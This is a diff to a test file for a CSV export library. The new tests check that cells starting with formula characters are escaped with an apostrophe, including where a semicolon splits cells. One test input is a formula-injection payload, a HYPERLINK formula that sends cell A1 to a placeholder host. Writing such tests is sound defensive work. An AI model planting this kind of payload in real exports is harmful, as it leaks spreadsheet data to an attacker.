@@ -85,7 +85,20 @@ describe('a row', () => {
     "'=1",
     "'",
   ])('protects a spreadsheet from %j', (text) => {
-    expect(toCsvRows(csv.row([text]))).toEqual([[`'${text}`]]);
+    const [[cell = ''] = []] = toCsvRows(csv.row([text]));
+    expect([cell.at(0), toUnprotected(cell)]).toEqual(["'", text]);
+  });
+
+  // Where the decimal sign is a comma, a semicolon parts cells, whatever is in quotes.
+  it.each([
+    ['Guest;=HYPERLINK("http://x/?"&A1)', 'Guest;\'=HYPERLINK("http://x/?"&A1)'],
+    ['x; +1', "x;' +1"],
+    ['a\n=1', "a\n'=1"],
+    ['a\t@b', "a\t'@b"],
+    ["a;'b", "a;''b"],
+  ])('protects a spreadsheet that parts %j otherwise', (text, expected) => {
+    const [[cell = ''] = []] = toCsvRows(csv.row([text]));
+    expect([cell, toUnprotected(cell)]).toEqual([expected, text]);
   });
 
   it.each(['a=1', '1+1', 'x@y.example', '2026-06-15T10:00:00Z', '😀', 'O’Neil', '(555) 0100'])(
